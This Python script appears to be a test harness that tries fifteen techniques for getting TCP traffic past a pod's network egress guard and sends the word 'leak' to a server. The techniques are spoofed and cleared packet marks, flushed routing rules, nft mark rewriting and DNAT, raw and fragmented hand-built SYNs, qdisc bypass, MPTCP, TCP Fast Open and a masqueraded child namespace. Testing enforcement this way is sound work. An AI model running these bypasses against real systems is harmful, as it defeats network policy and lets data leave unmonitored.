"""One way to reach a server in clear, by a pod that may do what root may do in its namespace.

usage: attempt.py WAY ADDRESS PORT [MORE...]; whether it got through is judged on the wire, not here.
"""

import fcntl
import os
import socket
import struct
import subprocess
import sys
import time

way, address, port, more = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
v6 = ":" in address
family = socket.AF_INET6 if v6 else socket.AF_INET
SO_MARK, MPTCP, MSG_FASTOPEN = 36, 262, 0x20000000


def sh(line):
    subprocess.run(line, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def our_marks():
    """Every mark the namespace's rules look for, and what might be near them."""
    marks = {0, 1, 0x111, 0x539}
    text = subprocess.run(["ip", "rule"], capture_output=True, text=True).stdout
    text += subprocess.run(["ip", "-6", "rule"], capture_output=True, text=True).stdout
    for word in text.split():
        if word.startswith("0x"):
            for number in word.split("/"):
                mark = int(number, 16)
                marks |= {mark, mark + 1, mark - 1 & 0xffffffff, mark | 1, mark ^ 0x100}
    return sorted(marks)


def tcp(protocol=0):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(1.2)
    return s


def connect(s):
    try:
        s.connect((address, port))
        s.sendall(b"leak")
        s.recv(4)
    except OSError:
        pass
    s.close()


def source():
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.connect((address, 9))
    return s.getsockname()[0]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(src, sport):
    """A SYN with twelve empty options and its checksum."""
    head = struct.pack("!HHIIBBHHH", sport, port, 12345, 0, 8 << 4, 2, 64240, 0, 0) + b"\1" * 12
    pair = socket.inet_pton(family, src) + socket.inet_pton(family, address)
    pseudo = pair + (struct.pack("!II", len(head), 6) if v6 else struct.pack("!HH", 6, len(head)))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def ip_packets(src, sport, fragmented):
    """The SYN in one IP packet or in two. The first of two holds the ports and not the flags, where that is
    taken: Linux drops an IPv6 fragment that begins a TCP header and does not end it (RFC 7112)."""
    whole = segment(src, sport)
    cut = 24 if v6 else 8
    parts = [(0, whole[:cut], 1), (cut // 8, whole[cut:], 0)] if fragmented else [(0, whole, 0)]
    for offset, payload, follows in parts:
        pair = socket.inet_pton(family, src) + socket.inet_pton(family, address)
        if v6:
            head = struct.pack("!BBHI", 6, 0, offset << 3 | follows, 4711) if fragmented else b""
            body = head + payload
            yield struct.pack("!IHBB", 6 << 28, len(body), 44 if fragmented else 6, 64) + pair + body
        else:
            flags = follows << 13 | offset
            head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 4711, flags, 64, 6, 0) + pair
            yield head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def frame_head(link):
    """Ethernet addresses towards the router."""
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(b"who are you", (address, 9))
    router = more[0]
    for _ in range(100):
        text = subprocess.run(["ip", "neigh", "show", router], capture_output=True, text=True).stdout.split()
        if "lladdr" in text:
            break
        time.sleep(0.02)
    there = bytes.fromhex(text[text.index("lladdr") + 1].replace(":", ""))
    here = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", link.encode()))[18:24]
    return there + here + (b"\x86\xdd" if v6 else b"\x08\x00")


def packets(fragmented, bypass=False):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    if bypass:
        try:
            s.setsockopt(263, 20, 1)
        except PermissionError:
            # Refused to enrolled pods; the frames would pass the guard by.
            return
    head, src = frame_head("eth0"), source()
    for n in range(3):
        for packet in ip_packets(src, 40000 + n, fragmented):
            try:
                s.send(head + packet)
            except OSError:
                # What the guard drops is told as a full queue.
                pass


def raw(fragmented):
    s = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for n in range(3):
        for packet in ip_packets(source(), 41000 + n, fragmented):
            try:
                s.sendto(packet, (address, 0))
            except OSError:
                pass


def mark_before():
    for mark in our_marks():
        s = tcp()
        s.settimeout(0.4)
        s.setsockopt(socket.SOL_SOCKET, SO_MARK, mark)
        connect(s)


def mark_after():
    """Stops the first SYN with a filter, then takes its mark away and waits for the second."""
    sh("nft add table inet leak; nft add chain inet leak out '{ type filter hook output priority 0; }'")
    for mark in our_marks():
        if mark > 1:
            sh(f"nft add rule inet leak out tcp dport {port} meta mark {mark} drop")
    for mark in [0, 77] + our_marks():
        s = tcp()
        s.setblocking(False)
        s.connect_ex((address, port))
        s.setsockopt(socket.SOL_SOCKET, SO_MARK, mark)
        pending.append(s)
    time.sleep(2.5)


pending = []


def device():
    for mark in [None] + our_marks():
        s = tcp()
        s.settimeout(0.3)
        if mark is not None:
            s.setsockopt(socket.SOL_SOCKET, SO_MARK, mark)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, (more[1] if len(more) > 1 else "eth0").encode())
        connect(s)
    # Bound when it is too late for the hook.
    s = tcp()
    s.setblocking(False)
    s.setsockopt(socket.SOL_SOCKET, SO_MARK, 77)
    s.connect_ex((address, port))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    time.sleep(1.5)


def mptcp():
    sh("ip mptcp limits set subflow 8 add_addr_accepted 8")
    sh(f"ip mptcp endpoint add {source()} dev eth0 subflow fullmesh")
    connect(tcp(MPTCP))


def fast_open():
    sh("sysctl -qw net.ipv4.tcp_fastopen=0x407")
    s = tcp()
    try:
        s.sendto(b"leak", MSG_FASTOPEN, (address, port))
        s.recv(4)
    except OSError:
        pass


def mapped():
    if not v6:
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(1.2)
        try:
            s.connect((f"::ffff:{address}", port))
        except OSError:
            pass
    else:
        connect(tcp())


def rules():
    """Takes out every rule and table that is not the kernel's own."""
    for ip in ("ip", "ip -6"):
        sh(f"{ip} rule flush; {ip} rule add pref 32766 lookup main")
    connect(tcp())
    sh("ip rule add pref 1 lookup main; ip -6 rule add pref 1 lookup main")
    connect(tcp())


def nft():
    """Rewrites the mark of every packet, and then the destination."""
    sh("nft add table inet leak; nft add chain inet leak out '{ type route hook output priority -500; }'")
    sh("nft add rule inet leak out tcp flags syn meta mark set 0")
    connect(tcp())
    one = "ip6" if v6 else "ip"
    decoy = "2001:db8:51::254" if v6 else "198.51.100.254"
    sh("nft add chain inet leak nat '{ type nat hook output priority -100; }'")
    to = f"[{address}]" if v6 else address
    sh(f"nft add rule inet leak nat {one} daddr {decoy} dnat {one} to {to}")
    s = tcp()
    try:
        s.connect((decoy, port))
        s.sendall(b"leak")
        s.recv(4)
    except OSError:
        pass


def child():
    """A namespace inside the pod's, whose packets the pod forwards and masquerades."""
    here, there = ("fd00:77::1/64", "fd00:77::2/64") if v6 else ("192.168.77.1/24", "192.168.77.2/24")
    gateway, one = here.split("/")[0], "ip6" if v6 else "ip"
    sh("sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1")
    sh(f"nft add table {one} leak; nft add chain {one} leak post '{{ type nat hook postrouting priority 100; }}'")
    sh(f"nft add rule {one} leak post oifname eth0 masquerade")
    inside = subprocess.Popen(["unshare", "--net", "sleep", "20"])
    own = os.stat("/proc/self/ns/net").st_ino
    while os.stat(f"/proc/{inside.pid}/ns/net").st_ino == own:
        time.sleep(0.01)
    at = f"nsenter -t {inside.pid} -n"
    link = "kid6" if v6 else "kid4"
    sh(f"ip link add {link} type veth peer name eth0 netns {inside.pid}; ip addr add {here} dev {link} nodad; ip addr add {here} dev {link}; ip link set {link} up")
    sh(f"{at} ip addr add {there} dev eth0 nodad; {at} ip addr add {there} dev eth0; {at} ip link set eth0 up; {at} ip route add default via {gateway}; {at} ip route add ::/0 via {gateway}")
    code = f"import socket; s=socket.create_connection(({address!r}, {port}), 2); s.sendall(b'leak'); s.recv(4)"
    subprocess.run(at.split() + ["python3", "-c", code], stderr=subprocess.DEVNULL)
    inside.kill()


WAYS = {
    "plain": lambda: connect(tcp()),
    "mark-before": mark_before,
    "mark-after": mark_after,
    "device": device,
    "mptcp": mptcp,
    "fast-open": fast_open,
    "mapped": mapped,
    "packet": lambda: packets(False),
    "packet-bypass": lambda: packets(False, True),
    "packet-fragments": lambda: packets(True),
    "raw": lambda: raw(False),
    "raw-fragments": lambda: raw(True),
    "rules": rules,
    "nft": nft,
    "child": child,
}
WAYS[way]()
